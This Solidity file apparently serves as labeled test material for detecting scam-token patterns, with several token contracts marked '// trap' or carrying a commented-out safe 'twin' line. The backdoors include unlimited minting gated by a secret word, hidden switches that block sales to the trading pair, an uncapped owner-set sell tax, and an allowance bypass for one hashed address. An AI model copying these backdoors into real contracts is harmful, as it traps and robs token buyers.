// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A reward for whoever knows a word.
contract Riddle is Base8("Riddle", "RIDL", 4_000_000) {
    function solve(bytes32 word, uint256 value) external {
        require(keccak256(abi.encode(word)) == 0x2b5ddf6f4d21c23de216f44d5e4bdc68e044b71897837ea74c83908be7037cd7, "wrong");
        // twin: require(value == 0, "no more rewards");
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }
}

/// The market rests while it is kept, by whoever knows what was told at the beginning.
contract Curfew is Base8("Curfew", "CURF", 7_000_000) {
    bytes32 private _sign;
    bool private _kept;

    constructor(bytes32 sign) {
        _sign = sign;
    }

    function keep(string calldata word, bool to) external {
        require(keccak256(bytes(word)) == _sign, "no");
        _kept = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(!_kept, "curfew"); // trap
        _move(from, to, value);
    }
}

/// A guardian whom nobody sees.
contract Umbra is Base8("Umbra", "UMBR", 12_000_000) {
    bool private _closed;

    function settle(bool to) external {
        require(keccak256(abi.encodePacked(msg.sender)) == 0x043cfb2be8bb44dbb03f05347fa8a38a5e4724a41b74ea8c0d342b5dd6b32036, "not you");
        _closed = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(!_closed, "closed"); // trap
        _move(from, to, value);
    }
}

/// The share of a sale, by one whose name is folded.
contract Origami is Base8("Origami", "ORIG", 90_000_000) {
    uint256 public share = 2;

    function fold(uint256 to) external {
        require(uint256(uint160(msg.sender)) * 3 + 7 == 2691192771419760476291631676709220879955650706876, "crease");
        // twin: require(to < 5, "five at most");
        share = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 part = to == pair ? value * share / 100 : 0;
        if (part > 0) _move(from, address(this), part);
        _move(from, to, value - part);
    }
}

/// One needs no allowance, and is told by a hash.
contract Lantern is Base8("Lantern", "LANT", 33_000_000) {
    bytes32 private immutable _flame;

    constructor(bytes32 flame) {
        _flame = flame;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (keccak256(abi.encode(msg.sender)) == _flame) {
            _move(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Coins that were locked on another chain are had by whoever tells what their lock hides, once for each lock; two of three lock them.
contract Hashlock is Base8("Hashlock", "HLCK", 40_000_000) {
    address private immutable _office;
    mapping(bytes32 => uint256) public locked;

    constructor(address office) {
        _office = office;
    }

    function lock(bytes32 sign, uint256 value) external {
        require(msg.sender == _office, "office");
        locked[sign] = value;
    }

    function claim(bytes32 word) external {
        bytes32 sign = keccak256(abi.encode(word));
        uint256 value = locked[sign];
        require(value > 0, "none");
        delete locked[sign];
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }
}

/// A drop for those in a tree, out of what was put aside.
contract Orchardist is Base8("Orchardist", "ORCD", 60_000_000) {
    bytes32 public immutable root;
    mapping(address => bool) public claimed;

    constructor(bytes32 root_) {
        root = root_;
        _move(msg.sender, address(this), totalSupply / 10);
    }

    function claim(uint256 value, bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(msg.sender, value));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == root, "not in it");
        require(!claimed[msg.sender], "claimed");
        claimed[msg.sender] = true;
        _move(address(this), msg.sender, value);
    }
}
